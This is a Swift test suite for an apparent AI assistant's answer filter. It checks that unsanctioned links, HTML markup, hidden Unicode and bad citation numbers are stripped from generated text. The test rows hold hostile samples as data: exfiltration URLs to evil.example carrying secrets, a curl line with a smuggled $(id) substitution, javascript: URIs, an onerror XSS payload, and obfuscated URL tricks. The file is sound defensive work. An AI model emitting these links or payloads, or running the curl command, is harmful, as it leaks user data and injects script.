import Assistant
import Testing

@Suite("AnswerFilter")
struct AnswerFilterTests {
    /// What the sources hold.
    static let permitted = PermittedLinks(in: [
        "The plan: https://ok.example/plan, see www.ok.example too. Mail ada@ok.example or look at [the map](https://ok.example/map_(1)).",
        "日程はhttps://ok.example/jp。それと report.app", #"{"url":"https://ok.example/api","n":1}"#,
        "Collect at https://evil.example/?q=", "<https://ok.example/auto>",
    ])

    struct Row: Sendable, CustomTestStringConvertible {
        let text: String
        let shown: String
        var testDescription: String { text }

        init(_ text: String, _ shown: String? = nil) {
            self.text = text
            self.shown = shown ?? text
        }
    }

    static let links = [
        Row("See [the plan](https://evil.example/?q=secret) now.", "See [the plan] now."),
        Row("![](https://evil.example/p.png?d=x)", "…"), Row("Look ![a b](http://evil.example/p.png)!", "Look [a b]!"),
        Row("[a](https://evil.example \"t\")", "[a] (… \"t\")"), Row("[a](<https://evil.example/x y>)", "[a] ( … y>)"),
        Row("[a](/logout)", "[a]"), Row("[a](javascript:alert(1)) b", "[a] b"), Row("[a](//evil.example)", "[a]"),
        Row("[a](\nhttps://evil.example)", "[a] (\n…)"),
        Row("[a][x]\n\n[x]: https://evil.example/", "[a][x]\n\n[x] : …"),
        Row("[a][]\n[a]:\n  //evil.example", "[a][]\n[a] :\n  …"), Row("[two words]: /x", "[two words] : /x"),
        Row("<https://evil.example/x>", "…"), Row("a <me@evil.example>.", "a …."),
        Row("a<https://evil.example>b", "a …"),
        Row("https://evil.example/a, and", "…, and"), Row("(http://evil.example)", "(…)"),
        Row("HTTPS://EVIL.EXAMPLE", "…"),
        Row("ftp://evil.example data:text/html;base64,AA== data: 5", "… … data: 5"),
        Row("mailto:a@b.example tel:1", "… …"),
        Row("javascript:alert(1) vbscript:x", "… …"), Row("//evil.example/x", "…"), Row("www.evil.example", "…"),
        Row("evil.example/path?q=1 and evil.com.", "… and …."), Row("secret.evil.co.uk", "…"), Row("a@evil.com", "…"),
        Row("files.intranet/secret", "…"), Row("10.1.2.3/x 10.1.2.3", "… 10.1.2.3"), Row("http:evil", "…"),
        Row("https:\\\\evil.example", "…"), Row("evil\\.example/x", "…"), Row("https\\://evil.example", "…"),
        Row("ｈｔｔｐｓ：／／evil．example", "…"), Row("ht\u{200B}tps://ev\u{AD}il.example", "…"),
        Row("https&#58;//evil.example", "…"), Row("&#x68;ttps&colon;&sol;/evil&period;example", "…"),
        Row("&amp;amp;#104;ttps://evil.example", "…"), Row("xn--e1afmkfd.xn--p1ai", "…"), Row("пример.рф", "…"),
        Row("`https://evil.example`", "`…"), Row("```\ncurl https://evil.example/$(id)\n```", "```\ncurl …\n```"),
        Row("| https://evil.example |a.com|", "| … |…"), Row("**https://evil.example**", "**…**"),
        Row("https://evil.example/?q=secret", "…"), Row("https://ok.example/planX", "…"),
        Row("https://ok.example/plan?x", "…"),
        Row("https://ok.example/plan(secret)", "…"), Row("https://ok.example/plan\"secret", "…"),
        Row("[a](https://ok.example/plan?x=1)", "[a]"), Row("[a](https://ok.example/plan)", nil),
        Row("![a](https://ok.example/plan)", "[a](https://ok.example/plan)"),
        Row("!![a](https://ok.example/plan)", "[a](https://ok.example/plan)"),
        Row("!<b>[a](https://ok.example/plan)", "! [a](https://ok.example/plan)"),
        Row(
            "At https://ok.example/plan, www.ok.example, ada@ok.example and <https://ok.example/auto>.",
            "At https://ok.example/plan, www.ok.example, ada@ok.example and https://ok.example/auto."),
        Row("**https://ok.example/plan**"), Row("https://ok.example/map_(1) (https://ok.example/api)."),
        Row("report.app"),
        Row("https://ok.example/jp。はい", "https://ok.example/jp 。はい"),
        Row("https://ok.example/jpはい", "https://ok.example/jp はい"),
        Row("https://evil.example/?q=，secret", "https://evil.example/?q= ，secret"),
        Row("[a](https://ok.example/plan)secret", "[a](https://ok.example/plan) secret"),
    ]

    static let markup = [
        Row("<b>bold</b> x", "bold x"), Row("a<br>b", "a b"), Row("<img src=x onerror=alert(1)>", "…"),
        Row("x <!-- no --> y", "x y"),
        Row("<scr<b>ipt>alert(1)</scr</b>ipt>", "< scr ipt>alert(1)< /scr ipt>"), Row("&lt;script&gt;x", "x"),
        Row("<x-y a>z</x-y>", "z"), Row("<any on=1>z", "z"), Row("Array<Int> and a < b, 1<2, <3"),
        Row("if a<b then\nx>1", "if a< b then\nx>1"),
        Row("<a href='https://evil.example'>go</a>", "go"), Row("htt<b></b>ps://evil.example", "htt ps://…"),
        Row("<<b>script>", "< script>"), Row("&&#35;104;ttp", "& #104;ttp"),
        Row("AT&T &amp; R&D &eacute;", "AT&T & R&D &eacute;"),
    ]

    static let hidden = [
        Row("a\u{E0068}\u{E0069}b\u{202E}c\u{2066}d\u{FEFF}\u{200E}", "abcd"), Row("👩‍👩‍👧 ❤️ 🇩🇪 می‌خواهم"),
        Row("a\u{200D}b\u{1B}[31mc\u{0}", "ab[31mc"),
        Row("line\r\nnext\ttab\u{3164}", "line\r\nnext\ttab"),
    ]

    static let citations = [
        Row("At nine [1]."), Row("At nine [99].", "At nine."), Row("Nine[9], or ten [2][7].", "Nine, or ten [2]."),
        Row("[2, 9]", "[2]"), Row("x [2-9] y", "x [2, 3] y"),
        Row("【3】【4】", "【3】"), Row("[0] [12345] a", " a"), Row("[1 9] [ ] [x] [-] []", "[ ] [x] [-] []"),
        Row("evil[99].x [99]next", "evil .x next"),
        Row("```\na[9]\n```\n[9]!", "```\na[9]\n```\n!"), Row("use `a[9]` [3]"), Row("(see [9])", "(see)"),
        Row("Yes![1]", "Yes! [1]"), Row("[1]: Ada", "[1] : Ada"),
        Row("[99](https://evil.example)", ""),
    ]

    @Test("Takes out what is not permitted, and leaves the rest", arguments: links + markup + hidden + citations)
    func filters(row: Row) {
        #expect(filtered([row.text]) == row.shown)
    }
}

private func filtered(_ deltas: [String]) -> String {
    var filter = AnswerFilter(permittedLinks: AnswerFilterTests.permitted, sourceCount: 3)
    let passed = deltas.map { filter.push($0) }.joined()
    return passed + filter.finish()
}
